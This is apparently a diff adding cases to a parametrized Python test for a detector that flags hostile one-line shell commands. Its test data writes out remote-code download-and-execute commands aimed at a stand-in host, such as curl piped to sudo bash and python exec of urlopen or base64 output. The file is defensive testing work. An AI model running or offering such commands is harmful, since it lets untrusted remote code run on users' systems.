@@ -44,6 +44,11 @@ from tests.fuzz.costly import INPUTS
         ("curl http://a.example/x | sudo -E bash -", True, True, False),
         ('eval "$(curl -s http://a.example/x)"', True, True, False),
         ("sh -c $(curl -s https://a.example/x)", True, False, False),
+        ("python -c \"exec(urlopen('http://a.example/x').read())\"", True, True, False),
+        ("python3 -c \"d=urlopen('http://a.example/x').read();exec(d)\"", True, True, False),
+        ("python -c \"exec(base64.b64decode('eA=='))\"", True, True, False),
+        ("python -c \"exec(urlopen('http://localhost/x').read())\"", True, False, False),
+        ("python -c 'import torch; print(torch.load)' # http://a.example", True, False, False),
     ],
 )
 def test_what_is_run_where_it_is_on_one_line(text, hostile, untrusted, piped):
